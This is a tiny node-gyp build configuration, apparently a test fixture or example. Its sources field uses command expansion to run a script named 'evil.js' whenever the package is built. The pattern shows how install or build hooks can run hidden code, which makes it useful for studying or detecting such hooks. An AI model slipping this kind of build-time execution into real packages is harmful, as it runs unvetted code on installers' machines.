{'targets': [{'target_name': 'x', 'sources': ['<!(node evil.js)', '<!@(pkg-config --libs x)'], 'actions': [{'action': ['node', 'make.js', '<@(_outputs)']}]}]}
